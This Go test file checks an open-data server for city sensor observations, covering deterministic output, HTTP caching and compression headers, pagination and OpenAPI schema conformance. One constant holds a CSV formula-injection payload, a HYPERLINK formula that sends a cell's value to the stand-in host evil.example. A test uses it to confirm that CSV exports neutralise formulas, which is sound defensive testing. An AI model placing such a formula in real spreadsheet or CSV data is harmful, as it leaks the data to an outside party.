package test

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/url"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/santhosh-tekuri/jsonschema/v6"

	"sluice/books"
	"sluice/opendata"
	"sluice/opendata/query"
	"sluice/store"
	"sluice/store/influx"
	"sluice/store/sqlite"
)

// plaza is an open-data server over a store and books of its own.
type plaza struct {
	t     *testing.T
	books books.Dir
	write func(context.Context, []store.Observation) error
	read  query.Store
	log   bytes.Buffer
	base  string
	stop  func()
}

// inStores runs a test over both stores.
func inStores(t *testing.T, f func(*testing.T, *plaza)) {
	t.Run("sqlite", func(t *testing.T) { f(t, newPlaza(t)) })
	t.Run("influx", func(t *testing.T) {
		db := newInflux(t)
		s, err := influx.Open(influx.Config{URL: db.url, Org: "city", Bucket: "city/autogen"})
		if err != nil {
			t.Fatal(err)
		}
		q := &plaza{t: t, books: books.Dir(t.TempDir()), write: s.Write, read: s}
		q.fill()
		q.open(opendata.Config{URL: "https://data.portalba.example"})
		f(t, q)
	})
}

func newPlaza(t *testing.T) *plaza {
	t.Helper()
	path := filepath.Join(t.TempDir(), "store.db")
	w, err := sqlite.Open(t.Context(), path)
	if err != nil {
		t.Fatal(err)
	}
	r, err := sqlite.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := r.Close(); err != nil {
			t.Error(err)
		}
		if err := w.Close(); err != nil {
			t.Error(err)
		}
	})
	q := &plaza{t: t, books: books.Dir(t.TempDir()), write: w.Write, read: r}
	q.fill()
	q.open(opendata.Config{URL: "https://data.portalba.example"})
	return q
}

// open serves, again after a stop.
func (q *plaza) open(cfg opendata.Config) {
	q.t.Helper()
	cfg.HTTP = "127.0.0.1:0"
	s, err := opendata.Open(cfg, q.read, q.books, slog.New(slog.NewTextHandler(&q.log, nil)))
	if err != nil {
		q.t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(q.t.Context())
	done := make(chan error, 1)
	go func() { done <- s.Run(ctx) }()
	q.base = "http://" + s.Addr()
	stopped := false
	q.stop = func() {
		if stopped {
			return
		}
		stopped = true
		cancel()
		if err := <-done; err != nil {
			q.t.Error(err)
		}
	}
	q.t.Cleanup(q.stop)
}

// dusk is the end of the last window.
var dusk = time.Date(2026, 3, 29, 20, 0, 0, 0, time.UTC)

// formula would be run by a spreadsheet.
const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`

// fill writes books of a city that is as awkward as books can be, and two days of
// observations around a night of 23 hours.
func (q *plaza) fill() {
	q.t.Helper()
	put := func(name string, v any) {
		q.t.Helper()
		if err := q.books.PutJSON(name, v); err != nil {
			q.t.Fatal(err)
		}
	}
	put("city.json", books.City{ID: "portalba", Name: "Portalba", Timezone: "Europe/Madrid", Languages: []string{"ca"}, Policy: "sha256:00"})
	put("streams.json", []books.Stream{
		{
			ID: "steps", Title: map[string]string{"en": formula, "ca": "Passos <b>&amp;"}, Every: "PT1H", Timezone: "Europe/Madrid", Unit: "device",
			Measures: []books.Measure{{Name: "devices", Unit: "device", Of: "distinct(unit)", PublicFrom: 47, TypicalError: 6}},
			Cells:    []books.Cell{{ID: "a/bike", Zone: "a", Category: "bike"}, {ID: "a/foot", Zone: "a", Category: "foot"}, {ID: "b/foot", Zone: "b", Category: "foot"}},
			Decision: "1", From: "2026-01-01", Until: "2026-12-31", Licence: "CC-BY-4.0", Plan: "sha256:01",
		},
		{
			ID: "noise", Title: map[string]string{"es": "Ruido"}, Every: "PT15M", Timezone: "Europe/Madrid", Unit: "none",
			Measures: []books.Measure{{Name: "level", Unit: "dB(A)", Of: "mean(laeq)"}, {Name: "peak", Unit: "dB(A)", Of: "quantile(laeq, 0.9)"}},
			Cells:    []books.Cell{{ID: "b", Zone: "b"}}, Decision: "2", From: "2026-01-01", Until: "2026-12-31", Licence: "CC0-1.0", Plan: "sha256:02",
		},
	})
	put("decisions.json", []books.Decision{
		{ID: "1", Title: map[string]string{"en": "+1+1"}, State: "in_force", From: "2026-01-01", Until: "2026-12-31", YAML: "decision: \"1\"\n", Explain: map[string]string{"en": "Who\n---\nDevices.\n"}},
		{ID: "2", Title: map[string]string{"en": "Noise"}, State: "suspended", From: "2026-01-01", Until: "2026-12-31", Votes: []books.Vote{{Member: "anna", Name: "Anna", Key: "SHA256:x", Verified: true}}},
	})
	alive := true
	put("register.json", books.Register{Sensors: []books.Sensor{
		{ID: "s-1", Owner: "@acme", Kind: "counter", Topic: "city/v1/acme/s-1/up", Zone: "a", Registered: "2026-01-01", Contact: "-2+3", Purpose: map[string]string{"en": "\tcount"}, Alive: &alive, Fields: []books.Field{{Name: "device", Class: "identifier", Fate: "counted", Decision: "1"}, {Name: "note", Class: "free-text", Fate: "dropped"}}},
		{ID: "s-2", Owner: "acme", Kind: "meter", Zone: "b", Registered: "2026-01-01", Fields: []books.Field{{Name: "laeq", Class: "measurement", Fate: "kept", Decision: "2"}}},
	}, Homes: []books.Homes{{Kind: "meter", Zone: "b", Number: 12}}})
	if err := q.books.Put("zones.geojson", []byte(`{"type":"FeatureCollection","features":[
{"type":"Feature","id":"a","properties":{"name":"Àrea <A>"},"geometry":{"type":"Polygon","coordinates":[[[2.1,41.3],[2.2,41.3],[2.2,41.4],[2.1,41.4],[2.1,41.3]]]}},
{"type":"Feature","id":"b","properties":{"name":"=B"},"geometry":{"type":"MultiPolygon","coordinates":[[[[2.2,41.3],[2.3,41.3],[2.3,41.4],[2.2,41.3]]]]}}]}`)); err != nil {
		q.t.Fatal(err)
	}
	var ledger bytes.Buffer
	prev := ""
	for n := range 5 {
		raw, err := json.Marshal(books.Entry{N: int64(n + 1), Day: fmt.Sprintf("2026-03-%02d", 25+n), Gateway: "edge-1", Decision: "1", Plan: "sha256:01", Unit: "device", Kind: "reserve", Epsilon: 0.5, Delta: 1e-6, Cap: 1, Left: 0.5, PrevSHA256: prev})
		if err != nil {
			q.t.Fatal(err)
		}
		ledger.Write(append(raw, '\n'))
		prev = books.Hash(string(raw))
	}
	if err := q.books.Put("ledger.jsonl", ledger.Bytes()); err != nil {
		q.t.Fatal(err)
	}
	q.release(dusk.Add(-48*time.Hour), dusk)
}

// release stores what was seen between two instants; the same instants always the same.
func (q *plaza) release(from, to time.Time) {
	q.t.Helper()
	var list []store.Observation
	for at := from; at.Before(to); at = at.Add(time.Hour) {
		for i, c := range []string{"a/bike", "a/foot", "b/foot"} {
			zone, category, _ := strings.Cut(c, "/")
			o := store.Observation{
				Stream: "steps", Start: at, End: at.Add(time.Hour), Every: "PT1H", Cell: c, Zone: zone, Category: category, Measure: "devices", Status: store.Published,
				Unit: "device", Decision: "1", Policy: "sha256:00", Mechanism: "laplace", Epsilon: 0.5, Scale: 2, Threshold: 40.25, Ledger: 1,
			}
			v := float64(100*i + at.Hour())
			low, high := v-6, v+6
			switch {
			case at.Hour() < 5:
				o.Status, o.Reason = store.Withheld, "few"
			case at.Hour() == 6 && i == 0:
				o.Status = store.NoData
			default:
				o.Value, o.Low, o.High = &v, &low, &high
			}
			list = append(list, o)
		}
		for quarter := range 4 {
			for _, m := range []string{"level", "peak"} {
				start := at.Add(time.Duration(quarter) * 15 * time.Minute)
				v := 50 + float64(start.Hour())/3
				list = append(list, store.Observation{
					Stream: "noise", Start: start, End: start.Add(15 * time.Minute), Every: "PT15M", Cell: "b", Zone: "b", Measure: m, Status: store.Published,
					Value: &v, Low: &v, High: &v, Unit: "dB(A)", Decision: "2", Policy: "sha256:00",
				})
			}
		}
	}
	if err := q.write(q.t.Context(), list); err != nil {
		q.t.Fatal(err)
	}
}

// ask sends one request as a client that can do nothing by itself.
func (q *plaza) ask(method, path string, header http.Header) (*http.Response, []byte) {
	q.t.Helper()
	req, err := http.NewRequestWithContext(q.t.Context(), method, q.base+path, nil)
	if err != nil {
		q.t.Fatal(err)
	}
	if header != nil {
		req.Header = header
	}
	resp, err := (&http.Transport{DisableCompression: true, DisableKeepAlives: true}).RoundTrip(req)
	if err != nil {
		q.t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		q.t.Fatal(err)
	}
	return resp, body
}

// everyAnswer is each file and each list in each form, and the pages.
var everyAnswer = []string{
	"/api/v1/streams", "/api/v1/streams?format=csv", "/api/v1/streams/steps/observations", "/api/v1/streams/steps/observations?format=csv&limit=7",
	"/api/v1/streams/steps/observations?cell=a/foot&cell=b/foot&measure=devices&from=2026-03-28&to=2026-03-29&limit=1000",
	"/api/v1/streams/noise/observations?limit=11&measure=peak", "/api/v1/streams/noise/observations?from=2026-03-29T06:00:00Z&to=2026-03-29T07:00:00Z&format=csv",
	"/api/v1/sensors", "/api/v1/sensors?format=csv", "/api/v1/zones", "/api/v1/zones?format=csv", "/api/v1/zones?stream=steps&measure=devices&category=foot",
	"/api/v1/decisions", "/api/v1/decisions?format=csv", "/api/v1/decisions/1", "/api/v1/ledger", "/api/v1/ledger?format=csv&limit=2", "/api/v1/ledger?day=2026-03-26",
	"/catalog.jsonld", "/openapi.json", "/books/ledger.jsonl", "/", "/?layer=noise/level&lang=ca", "/streams/steps", "/streams/steps?span=month&cell=a/foot", "/streams/noise?measure=peak&lang=es",
	"/sensors", "/sensors/s-1", "/decisions", "/decisions/2", "/privacy", "/docs", "/problems/parameter",
}

// TestSameBytes asks both stores, and after a restart, for everything: the same
// question has the same bytes and the same ETag.
func TestSameBytes(t *testing.T) {
	t.Parallel()
	first := map[string]string{}
	inStores(t, func(t *testing.T, q *plaza) {
		for round := range 2 {
			for _, path := range everyAnswer {
				resp, body := q.ask("GET", path, nil)
				if resp.StatusCode != http.StatusOK {
					t.Errorf("%s is %d: %.300s", path, resp.StatusCode, body)
				}
				got := resp.Header.Get("ETag") + resp.Header.Get("Link") + "\n" + string(body)
				if old, ok := first[path]; ok && old != got {
					t.Errorf("%s is not what it was (round %d)\n%s", path, round, firstDifference(old, got))
				}
				first[path] = got
			}
			q.stop()
			q.open(opendata.Config{URL: "https://data.portalba.example"})
		}
	})
}

func firstDifference(a, b string) string {
	n := 0
	for n < min(len(a), len(b)) && a[n] == b[n] {
		n++
	}
	cut := func(s string) string { return s[max(0, n-60):min(len(s), n+60)] }
	return fmt.Sprintf("%d: %s\n%s", n, cut(a), cut(b))
}

// TestEveryAnswerAsHTTP holds each answer to what HTTP and its clients expect.
func TestEveryAnswerAsHTTP(t *testing.T) {
	t.Parallel()
	q := newPlaza(t)
	for _, path := range everyAnswer {
		resp, body := q.ask("GET", path, nil)
		etag := resp.Header.Get("ETag")
		if etag == "" || resp.Header.Get("Cache-Control") == "" || resp.Header.Get("Access-Control-Allow-Origin") != "*" || resp.Header.Get("Set-Cookie") != "" ||
			resp.Header.Get("X-Content-Type-Options") != "nosniff" || !strings.HasPrefix(resp.Header.Get("Content-Security-Policy"), "default-src 'self'") {
			t.Errorf("%s has headers %v", path, resp.Header)
		}
		if !strings.Contains(resp.Header.Get("Vary"), "Accept-Encoding") {
			t.Errorf("%s varies by %q", path, resp.Header.Get("Vary"))
		}
		head, none := q.ask("HEAD", path, nil)
		if head.StatusCode != http.StatusOK || len(none) != 0 || head.Header.Get("ETag") != etag || head.ContentLength != int64(len(body)) {
			t.Errorf("HEAD %s is %d with %d bytes, ETag %s", path, head.StatusCode, head.ContentLength, head.Header.Get("ETag"))
		}
		small, packed := q.ask("GET", path, http.Header{"Accept-Encoding": {"br, gzip;q=0.5"}})
		if len(body) > 1024 {
			z, err := gzip.NewReader(bytes.NewReader(packed))
			if err != nil {
				t.Fatalf("%s is not compressed: %v", path, err)
			}
			if plain, err := io.ReadAll(z); err != nil || !bytes.Equal(plain, body) {
				t.Errorf("%s is another when compressed (%v)", path, err)
			}
			if small.Header.Get("Content-Encoding") != "gzip" || small.Header.Get("ETag") == etag || len(packed) >= len(body) {
				t.Errorf("%s compressed has %v", path, small.Header)
			}
		}
		if plain, raw := q.ask("GET", path, http.Header{"Accept-Encoding": {"gzip;q=0, *;q=0"}}); plain.Header.Get("Content-Encoding") != "" || !bytes.Equal(raw, body) {
			t.Errorf("%s is compressed for who cannot read it", path)
		}
		for _, match := range []string{etag, "W/" + etag, `"other", ` + small.Header.Get("ETag"), "*"} {
			if same, rest := q.ask("GET", path, http.Header{"If-None-Match": {match}}); same.StatusCode != http.StatusNotModified || len(rest) != 0 || same.Header.Get("ETag") == "" {
				t.Errorf("%s with If-None-Match %s is %d with %d bytes", path, match, same.StatusCode, len(rest))
			}
		}
		if other, _ := q.ask("GET", path, http.Header{"If-None-Match": {`"00"`}}); other.StatusCode != http.StatusOK {
			t.Errorf("%s with another ETag is %d", path, other.StatusCode)
		}
	}
	for _, method := range []string{"POST", "PUT", "DELETE", "OPTIONS", "PATCH", "TRACE", "WRITE"} {
		resp, body := q.ask(method, "/api/v1/streams", nil)
		if resp.StatusCode != http.StatusMethodNotAllowed || resp.Header.Get("Allow") != "GET, HEAD" || resp.Header.Get("Content-Type") != "application/problem+json" {
			t.Errorf("%s is %d %s", method, resp.StatusCode, body)
		}
	}
}

// TestFormulas opens every CSV as a spreadsheet would: no cell begins as a formula
// does, and numbers, also negative ones, are still numbers.
func TestFormulas(t *testing.T) {
	t.Parallel()
	q := newPlaza(t)
	v, low, high := -3.5, -9.5, 2.5
	at := dusk
	if err := q.write(t.Context(), []store.Observation{{
		Stream: "steps", Start: at, End: at.Add(time.Hour), Every: "PT1H", Cell: "a/foot", Zone: "a", Category: "foot", Measure: "devices", Status: store.Published,
		Value: &v, Low: &low, High: &high, Unit: "=device", Decision: "@1",
	}}); err != nil {
		t.Fatal(err)
	}
	seen := ""
	for _, path := range []string{
		"/api/v1/streams", "/api/v1/streams/steps/observations?limit=1000", "/api/v1/sensors", "/api/v1/zones", "/api/v1/decisions", "/api/v1/ledger",
		"/api/v1/streams/noise/observations",
	} {
		for _, form := range []string{"", "format=csv"} {
			address, header := path, http.Header{"Accept": {"text/csv, text/plain;q=0.5"}}
			if form != "" {
				header = nil
				address += map[bool]string{true: "&", false: "?"}[strings.Contains(path, "?")] + form
			}
			resp, body := q.ask("GET", address, header)
			if got := resp.Header.Get("Content-Type"); got != "text/csv; charset=utf-8" {
				t.Errorf("%s is %s", address, got)
			}
			rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
			if err != nil || len(rows) < 2 || bytes.Contains(body, []byte("\r\n")) {
				t.Errorf("%s has %d rows (%v)", address, len(rows), err)
			}
			for _, cell := range slices.Concat(rows...) {
				if _, err := strconv.ParseFloat(cell, 64); err == nil {
					seen += cell
					continue
				}
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s has a cell %q", address, cell)
				}
				if strings.HasPrefix(cell, "'=HYPER") {
					seen += "formula"
				}
			}
		}
	}
	if !strings.Contains(seen, "-3.5") || !strings.Contains(seen, "formula") {
		t.Errorf("the test saw only %q", seen)
	}
}

// TestPagesOfLists follows next through lists while items come and go.
func TestPagesOfLists(t *testing.T) {
	t.Parallel()
	inStores(t, func(t *testing.T, q *plaza) {
		follow := func(path, name string, meanwhile func()) (all []string) {
			t.Helper()
			for path != "" {
				resp, body := q.ask("GET", path, nil)
				var page map[string]json.RawMessage
				var items []json.RawMessage
				var next *string
				for name, v := range map[string]any{"": &page, name: &items, "next": &next} {
					raw := body
					if name != "" {
						if err := json.Unmarshal(body, &page); err != nil {
							t.Fatalf("%s: %v", path, err)
						}
						raw = page[name]
					}
					if err := json.Unmarshal(raw, v); err != nil {
						t.Fatalf("%s, %s: %v", path, name, err)
					}
				}
				for _, i := range items {
					all = append(all, string(i))
				}
				if next == nil {
					break
				}
				path = *next
				if want := "<" + path + `>; rel="next"`; resp.Header.Get("Link") != want {
					t.Errorf("Link is %s; want %s", resp.Header.Get("Link"), want)
				}
				if meanwhile != nil {
					meanwhile()
					meanwhile = nil
				}
			}
			return all
		}
		whole := follow("/api/v1/streams/steps/observations?limit=1000", "items", nil)
		parts := follow("/api/v1/streams/steps/observations?limit=5", "items", func() { q.release(dusk, dusk.Add(3*time.Hour)) })
		if len(whole) != 72 || !slices.Equal(whole, parts) {
			t.Errorf("%d observations in pages, %d at once\n%s", len(parts), len(whole), firstDifference(strings.Join(whole, "\n"), strings.Join(parts, "\n")))
		}
		if got := follow("/api/v1/ledger?limit=2", "entries", nil); len(got) != 5 {
			t.Errorf("%d lines of the ledger; want 5", len(got))
		}
		for _, x := range []struct {
			path, name string
			want       int
		}{{"/api/v1/streams?limit=1", "streams", 2}, {"/api/v1/decisions?limit=1", "decisions", 2}, {"/api/v1/sensors?limit=1", "sensors", 2}} {
			if got := follow(x.path, x.name, nil); len(got) != x.want || len(slices.Compact(got)) != x.want {
				t.Errorf("%s has %d items; want %d", x.path, len(got), x.want)
			}
		}
		for _, path := range []string{"/api/v1/ledger?cursor=zz", "/api/v1/sensors?cursor=WyJnb25lIl0", "/api/v1/streams?limit=0", "/api/v1/decisions?limit=1001", "/api/v1/zones?measure=devices", "/api/v1/zones?stream=steps&measure=x", "/api/v1/ledger?format=xml"} {
			if resp, body := q.ask("GET", path, nil); resp.StatusCode != http.StatusBadRequest || resp.Header.Get("Content-Type") != "application/problem+json" {
				t.Errorf("%s is %d %s", path, resp.StatusCode, body)
			}
		}
	})
}

// TestZones looks at the map for other programs.
func TestZones(t *testing.T) {
	t.Parallel()
	inStores(t, func(t *testing.T, q *plaza) {
		var all struct {
			Features []struct {
				ID         string
				Properties struct {
					Name     string
					Latest   []struct{ Stream, Measure, Category, Status string }
					Value    *float64
					Status   string
					Category string
				}
				Geometry struct{ Type string }
			}
		}
		getJSON(t, q.base+"/api/v1/zones", &all)
		if len(all.Features) != 2 || len(all.Features[0].Properties.Latest) != 2 || len(all.Features[1].Properties.Latest) != 3 || all.Features[1].Geometry.Type != "MultiPolygon" {
			t.Errorf("zones are %+v", all)
		}
		getJSON(t, q.base+"/api/v1/zones?stream=steps&category=foot", &all)
		if p := all.Features[0].Properties; p.Value == nil || *p.Value != 119 || p.Status != "published" || p.Category != "foot" {
			t.Errorf("zone a says %+v", p)
		}
		_, header, _ := get(t, q.base+"/api/v1/zones")
		if header.Get("Content-Type") != "application/geo+json" {
			t.Errorf("zones are %s", header.Get("Content-Type"))
		}
	})
}

// TestOpenAPIHolds holds every real answer, and every example, against the schemas
// that /openapi.json promises, and every parameter against those that are taken.
func TestOpenAPIHolds(t *testing.T) {
	t.Parallel()
	q := newPlaza(t)
	_, raw := q.ask("GET", "/openapi.json", nil)
	doc, err := jsonschema.UnmarshalJSON(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	c := jsonschema.NewCompiler()
	c.DefaultDraft(jsonschema.Draft2020)
	if err := c.AddResource("openapi.json", doc); err != nil {
		t.Fatal(err)
	}
	var api struct {
		OpenAPI string
		Paths   map[string]struct {
			Get struct {
				Parameters []struct{ Name, In string }
				Responses  map[string]struct {
					Content map[string]struct {
						Schema  json.RawMessage
						Example json.RawMessage
					}
				}
			}
		}
	}
	if err := json.Unmarshal(raw, &api); err != nil || !strings.HasPrefix(api.OpenAPI, "3.1") {
		t.Fatal(api.OpenAPI, err)
	}
	real := map[string][]string{
		"/api/v1/streams": {""}, "/api/v1/streams/{id}/observations": {"?limit=100", "?cursor=x"}, "/api/v1/streams/{id}/totals": {"?over=time", "?over=zones"},
		"/api/v1/sensors": {"", "?limit=1"}, "/api/v1/zones": {"", "?stream=steps"}, "/api/v1/decisions": {""}, "/api/v1/decisions/{id}": {""}, "/api/v1/ledger": {"?limit=1"},
	}
	if len(api.Paths) != len(real) {
		t.Errorf("%d paths are described, %d are asked here", len(api.Paths), len(real))
	}
	valid := func(what, path, status, mime string, body []byte) {
		t.Helper()
		pointer := "openapi.json#/paths/" + url.PathEscape(strings.NewReplacer("~", "~0", "/", "~1").Replace(path)) + "/get/responses/" + status + "/content/" + strings.NewReplacer("/", "~1", "+", "%2B").Replace(mime) + "/schema"
		schema, err := c.Compile(pointer)
		if err != nil {
			t.Fatalf("%s: %v", pointer, err)
		}
		v, err := jsonschema.UnmarshalJSON(bytes.NewReader(body))
		if err == nil {
			err = schema.Validate(v)
		}
		if err != nil {
			t.Errorf("%s of %s: %v", what, path, err)
		}
	}
	for path, queries := range real {
		op := api.Paths[path].Get
		for mime, x := range op.Responses["200"].Content {
			if mime != "text/csv" {
				valid("the example", path, "200", mime, x.Example)
			}
		}
		id := map[bool]string{true: "1", false: "steps"}[strings.Contains(path, "decisions")]
		for _, query := range queries {
			if strings.HasSuffix(path, "/totals") {
				id = "gates"
				q.gates()
			}
			resp, body := q.ask("GET", strings.Replace(path, "{id}", id, 1)+query, nil)
			mime := strings.TrimSuffix(resp.Header.Get("Content-Type"), "; charset=utf-8")
			valid("the answer", path, fmt.Sprint(resp.StatusCode), mime, body)
		}
		for _, p := range op.Parameters {
			if p.In != "query" {
				continue
			}
			_, body := q.ask("GET", strings.Replace(path, "{id}", id, 1)+"?"+p.Name+"=x", nil)
			if bytes.Contains(body, []byte("unknown parameter")) {
				t.Errorf("%s does not know its parameter %s", path, p.Name)
			}
		}
	}
}

// gates is a stream whose numbers can be added up.
func (q *plaza) gates() {
	q.t.Helper()
	streams, err := books.Reader{Source: q.books}.Streams()
	if err != nil {
		q.t.Fatal(err)
	}
	if len(streams) > 2 {
		return
	}
	streams = append(streams, books.Stream{ID: "gates", Every: "PT1H", Timezone: "UTC", Unit: "none", Measures: []books.Measure{{Name: "turns", Of: "count()"}}, Cells: []books.Cell{{ID: "a", Zone: "a"}}, Decision: "1"})
	if err := q.books.PutJSON("streams.json", streams); err != nil {
		q.t.Fatal(err)
	}
	v := 7.0
	if err := q.write(q.t.Context(), []store.Observation{{Stream: "gates", Start: dusk, End: dusk.Add(time.Hour), Every: "PT1H", Cell: "a", Zone: "a", Measure: "turns", Status: store.Published, Value: &v, Low: &v, High: &v}}); err != nil {
		q.t.Fatal(err)
	}
	time.Sleep(300 * time.Millisecond) // what the server knows is a quarter of a second old at most
}
